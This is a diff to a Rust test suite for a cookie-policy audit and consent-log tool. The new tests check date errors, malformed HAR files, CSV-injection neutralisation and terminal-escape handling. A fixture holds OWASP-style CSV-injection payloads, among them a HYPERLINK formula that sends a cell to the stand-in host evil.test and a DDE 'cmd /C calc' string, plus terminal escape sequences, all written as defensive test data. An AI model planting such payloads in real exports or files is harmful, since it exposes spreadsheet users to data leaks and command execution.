@@ -440,8 +440,8 @@ fn markdown_and_html_reports_list_every_finding() {
 /// Fills a consent log with three decisions: two of visitor A (one of them
 /// a year and a half old), one of visitor B.
 async fn fill(log: cookie_policy_consent_log::ConsentLog) {
-    use cookie_policy_consent_log::{Context, Origin};
     use cookie_policy::{Category, Consent};
+    use cookie_policy_consent_log::{Context, Origin};
     let context = |id: &str| Context {
         consent_id: Some(id.to_owned()),
         language: Some("en".to_owned()),
@@ -600,7 +600,7 @@ fn consents_refuse_bad_input_with_exit_2() {
         ),
         (
             &["consents", "--log", log, "export", "--since", "yesterday"],
-            "error: `yesterday` is not a date",
+            "error: --since yesterday is not a date: it is neither a day, YYYY-MM-DD, nor a moment, RFC 3339\n  = help: write --since YYYY-MM-DD, for example --since ",
         ),
         (
             &[
@@ -622,4 +622,263 @@ fn consents_refuse_bad_input_with_exit_2() {
         );
     }
     let _ = std::fs::remove_dir_all(&dir);
+}
+
+/// An impossible day is refused before the log is opened: no database is
+/// needed, and the message names the date and what to write.
+#[test]
+fn an_impossible_day_exits_2_without_a_database() {
+    for log in ["no/such.sqlite", "postgres://nobody@127.0.0.1:1/none"] {
+        let output = run(
+            &workspace(),
+            &["consents", "--log", log, "export", "--since", "2026-02-31"],
+        );
+        assert_eq!(output.status.code(), Some(2), "{}", text(&output.stderr));
+        assert_eq!(
+            text(&output.stderr),
+            "error: --since 2026-02-31 is not a date: February 2026 has 28 days\n  = help: write --since YYYY-MM-DD, for example --since 2026-02-28\n"
+        );
+        assert_eq!(text(&output.stdout), "");
+    }
+}
+
+/// A HAR that is not one exits 2 with serde_json's reason, the line and
+/// column (`path:line:column`) and what to do; one without the fields HAR
+/// makes optional (pages, pageref) is read.
+#[test]
+fn a_malformed_har_exits_2_with_its_line_and_column() {
+    let dir = std::env::temp_dir().join(format!("cookie-policy-har-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap_or_else(|e| panic!("{e}"));
+    let cases = [
+        (
+            "cut.har",
+            "{\n  \"log\": {\n    \"entries\": [\n",
+            "is not a HAR 1.2 or 1.3 file: EOF while parsing a list\n  --> ",
+            ":4:0\n  = help: the file is not JSON, or was cut short;",
+        ),
+        (
+            "no-response.har",
+            "{\"log\": {\"entries\": [\n  {\"request\": {\"url\": \"http://a.test/\", \"cookies\": []}}\n]}}",
+            "is not a HAR 1.2 or 1.3 file: missing field `response`\n  --> ",
+            ":2:55\n  = help: a HAR is a `log` with `entries`",
+        ),
+    ];
+    for (name, content, reason, place) in cases {
+        let path = dir.join(name);
+        std::fs::write(&path, content).unwrap_or_else(|e| panic!("{e}"));
+        let path = path.to_str().unwrap_or_default();
+        let output = run(
+            &workspace(),
+            &["audit", "--policy", SHOP_POLICY, "--har", path],
+        );
+        let stderr = text(&output.stderr);
+        assert_eq!(output.status.code(), Some(2), "{stderr}");
+        assert!(
+            stderr.starts_with(&format!("error: `{path}` {reason}{path}{place}")),
+            "{stderr}"
+        );
+    }
+    let minimal = dir.join("minimal.har");
+    std::fs::write(
+        &minimal,
+        r#"{"log": {"entries": [{"request": {"url": "http://www.shop.test/", "cookies": []},
+            "response": {"headers": [{"name": "Content-Type", "value": "text/html"},
+                {"name": "set-cookie", "value": "sessionid=1; Path=/"}]}}]}}"#,
+    )
+    .unwrap_or_else(|e| panic!("{e}"));
+    let (code, report) = audit_har(SHOP_POLICY, minimal.to_str().unwrap_or_default());
+    let _ = std::fs::remove_dir_all(&dir);
+    assert_eq!(code, Some(0), "{report:#}");
+    assert_eq!(report["site"], "www.shop.test");
+    assert_eq!(report["cookies"][0]["name"], "sessionid", "{report:#}");
+}
+
+/// The text fields of a record that could start a formula, or drive a
+/// terminal: each starts with one of OWASP's formula characters.
+const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\n'];
+
+/// A SQLite log of hand-built records (the log's own `record` would cut
+/// and check them): one per formula start in every text field, and one
+/// whose page and user agent hold terminal escapes.
+fn hostile_log(dir: &Path) -> (String, Vec<cookie_policy_consent_log::ConsentRecord>) {
+    use cookie_policy::Category;
+    use cookie_policy_consent_log::{ConsentRecord, ConsentStore, Origin};
+    use cookie_policy_consent_log_sqlite::SqliteStore;
+    let _ = std::fs::remove_dir_all(dir);
+    std::fs::create_dir_all(dir).unwrap_or_else(|e| panic!("{e}"));
+    let path = dir.join("consents.sqlite");
+    let store = SqliteStore::open(&path).unwrap_or_else(|e| panic!("{e}"));
+    let record = |index: u64, start: char| ConsentRecord {
+        // A consent id is letters, digits and `-`: only `-` can start one.
+        consent_id: if start == '-' {
+            format!("-cmd-{index}")
+        } else {
+            format!("id-{index}")
+        },
+        time_ms: 1_795_996_800_000 + index,
+        accepted: vec![Category::Necessary],
+        rejected: vec![Category::Advertising],
+        revision: "0123456789abcdef".parse().unwrap(),
+        policy_sha256: "00".repeat(32),
+        // A language is a checked tag (`cookie_policy::Language`): no
+        // formula or escape can be one.
+        language: "en".parse().unwrap(),
+        page: format!("{start}HYPERLINK(\"http://evil.test/?\"&A1,\"shop\")"),
+        network: Some(format!("{start}1+1")),
+        user_agent: Some(format!("{start}2+5+cmd|' /C calc'!A0, \"quoted\"\r\nnext")),
+        origin: Origin::Banner,
+    };
+    let mut records: Vec<ConsentRecord> = FORMULA_STARTS
+        .iter()
+        .zip(0..)
+        .map(|(&start, index)| record(index, start))
+        .collect();
+    let mut escapes = record(99, 'x');
+    escapes.consent_id = "esc-1".to_owned();
+    escapes.page = "http://www.shop.test/\u{1b}[31mred\u{1b}[0m\u{9b}2J".to_owned();
+    escapes.user_agent = Some("\u{1b}]0;owned\u{7}\u{7f}".to_owned());
+    records.push(escapes);
+    let runtime = tokio::runtime::Runtime::new().unwrap_or_else(|e| panic!("{e}"));
+    runtime.block_on(async {
+        for record in &records {
+            store
+                .append(record.clone())
+                .await
+                .unwrap_or_else(|e| panic!("{e}"));
+        }
+    });
+    (path.to_str().unwrap_or_default().to_owned(), records)
+}
+
+/// Reads CSV with Python's `csv` module, as a spreadsheet import would;
+/// the rows, as JSON.
+fn python_csv(csv: &[u8]) -> Vec<Vec<String>> {
+    use std::io::Write as _;
+    use std::process::Stdio;
+    let mut python = Command::new("python3")
+        .args([
+            "-c",
+            "import csv, io, json, sys\n\
+             rows = list(csv.reader(io.TextIOWrapper(sys.stdin.buffer, encoding='utf-8', newline='')))\n\
+             json.dump(rows, sys.stdout)",
+        ])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .unwrap_or_else(|error| panic!("cannot run python3: {error}"));
+    python
+        .stdin
+        .take()
+        .unwrap_or_else(|| panic!("no stdin"))
+        .write_all(csv)
+        .unwrap_or_else(|e| panic!("{e}"));
+    let output = python.wait_with_output().unwrap_or_else(|e| panic!("{e}"));
+    assert!(output.status.success(), "python3 failed");
+    serde_json::from_slice(&output.stdout).unwrap_or_else(|e| panic!("{e}"))
+}
+
+/// OWASP's CSV injection: no cell of an export starts a formula, and each
+/// neutralised cell is the field with a `'` before it, read back intact by
+/// Python's `csv` module.
+#[test]
+fn a_csv_export_starts_no_formula() {
+    let dir = std::env::temp_dir().join(format!("cookie-policy-csv-{}", std::process::id()));
+    let (log, records) = hostile_log(&dir);
+    let output = run(&workspace(), &["consents", "--log", &log, "export"]);
+    let _ = std::fs::remove_dir_all(&dir);
+    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
+    let rows = python_csv(&output.stdout);
+    assert_eq!(rows.len(), records.len() + 1, "{rows:?}");
+    for row in &rows {
+        assert_eq!(row.len(), 11, "{row:?}");
+        for cell in row {
+            assert!(
+                !cell.starts_with(FORMULA_STARTS),
+                "a cell starts a formula: {cell:?}"
+            );
+        }
+    }
+    let neutralised = |field: &str| {
+        if field.starts_with(FORMULA_STARTS) {
+            format!("'{field}")
+        } else {
+            field.to_owned()
+        }
+    };
+    for (row, record) in rows[1..].iter().zip(&records) {
+        assert_eq!(row[0], neutralised(&record.consent_id));
+        assert_eq!(row[6], neutralised(record.language.as_str()));
+        assert_eq!(row[7], neutralised(&record.page));
+        assert_eq!(row[8], neutralised(record.network.as_deref().unwrap_or("")));
+        assert_eq!(
+            row[9],
+            neutralised(record.user_agent.as_deref().unwrap_or(""))
+        );
+    }
+    assert_eq!(rows[3][0], "'-cmd-2");
+}
+
+/// `show` writes a stored field's control characters as escapes: no byte
+/// of the output can drive the terminal.
+#[test]
+fn show_escapes_what_could_drive_a_terminal() {
+    let dir = std::env::temp_dir().join(format!("cookie-policy-show-{}", std::process::id()));
+    let (log, _) = hostile_log(&dir);
+    let output = run(&workspace(), &["consents", "--log", &log, "show", "esc-1"]);
+    let newline = run(&workspace(), &["consents", "--log", &log, "show", "id-6"]);
+    let _ = std::fs::remove_dir_all(&dir);
+    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
+    let shown = text(&output.stdout);
+    assert!(!output.stdout.contains(&0x1b), "{shown:?}");
+    assert!(
+        !shown.chars().any(|c| c.is_control() && c != '\n'),
+        "{shown:?}"
+    );
+    assert!(
+        shown.contains("page http://www.shop.test/\\u{1b}[31mred\\u{1b}[0m\\u{9b}2J\n"),
+        "{shown}"
+    );
+    assert!(
+        shown.contains("  user agent \\u{1b}]0;owned\\u{7}\\u{7f}\n"),
+        "{shown}"
+    );
+    // A stored line break cannot forge a line of the report.
+    let shown = text(&newline.stdout);
+    assert!(shown.contains(", page \\u{a}HYPERLINK("), "{shown}");
+    assert!(shown.contains("\\u{d}\\u{a}next\n"), "{shown}");
+}
+
+/// The text report of `audit` escapes what the site wrote: a page title
+/// with terminal escapes in a HAR.
+#[test]
+fn the_text_report_escapes_what_the_site_wrote() {
+    let mut har: serde_json::Value = serde_json::from_str(
+        &std::fs::read_to_string(workspace().join(SHOP_HAR)).unwrap_or_default(),
+    )
+    .unwrap_or_else(|error| panic!("{error}"));
+    har["log"]["pages"][1]["title"] =
+        "http://www.shop.test/about\u{1b}[2J\u{1b}]0;owned\u{7}".into();
+    let path = std::env::temp_dir().join(format!("cookie-policy-esc-{}.har", std::process::id()));
+    std::fs::write(&path, har.to_string()).unwrap_or_else(|error| panic!("{error}"));
+    let output = run(
+        &workspace(),
+        &[
+            "audit",
+            "--policy",
+            SHOP_POLICY,
+            "--har",
+            path.to_str().unwrap_or_default(),
+        ],
+    );
+    let _ = std::fs::remove_file(&path);
+    assert_eq!(output.status.code(), Some(1), "{}", text(&output.stderr));
+    let report = text(&output.stdout);
+    assert!(
+        !report.chars().any(|c| c.is_control() && c != '\n'),
+        "{report:?}"
+    );
+    assert!(
+        report.contains("  page:   http://www.shop.test/about\\u{1b}[2J\\u{1b}]0;owned\\u{7}\n"),
+        "{report}"
+    );
 }
